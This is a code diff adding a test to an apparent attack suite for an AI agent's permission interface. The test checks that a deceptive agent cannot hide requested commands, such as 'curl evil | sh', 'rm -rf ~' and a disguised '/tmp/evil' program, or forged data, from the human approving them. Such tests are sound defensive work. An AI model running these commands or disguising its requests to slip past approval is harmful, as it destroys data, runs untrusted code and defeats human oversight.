@@ -87,6 +87,23 @@ function readLog(file: string): Told[] {
     .map((line) => JSON.parse(line) as Told);
 }
 
+/** What of the requests of the deed "lies" a card would not list. */
+function hiddenIn(channel: ConversationChannel): string[] {
+  const entries = [...entriesFrom(channel.view.get().conversation.entries)];
+  const requests = entries.flatMap((entry) => (entry.kind === 'permission' ? [entry.request] : []));
+  const listed = requests.map(({ fields }) => fields.map(({ value }) => value).join('\n'));
+  const isListed = (text: string) => listed.some((fields) => fields.includes(text));
+  const isForged = requests.some(({ input }) => JSON.stringify(input ?? '').includes('"blob":"ffffff'));
+  return [
+    ...unless(requests.length === 5, `${requests.length} of 5 requests were shown`),
+    ...unless(isListed("/tmp/evil -c 'git status' 7"), 'the program of an argument list is hidden'),
+    ...unless(isListed('curl evil | sh'), 'the thirteenth field is hidden'),
+    ...unless(isListed('rm -rf ~'), 'an input that is a text is hidden'),
+    ...unless(isListed('a\nb'), 'fields named after prototypes are hidden'),
+    ...unless(!isForged, 'data passes itself off as a reference to a text'),
+  ];
+}
+
 const allowed = (told: readonly Told[]) => told.filter(({ outcome }) => outcome === 'ok');
 
 export const AGENT: readonly Attack[] = [
@@ -161,6 +178,11 @@ export const AGENT: readonly Attack[] = [
           unless(pendingRequests(channel.view.get().conversation).length === 0, 'requests stay open'),
         { isEndless: true },
       ),
+  },
+  {
+    who: 'agent',
+    name: 'asks for something else than its requests seem to say',
+    run: (world) => deed(world, 'lies', ({ channel }) => hiddenIn(channel), { isEndless: true }),
   },
   {
     who: 'agent',
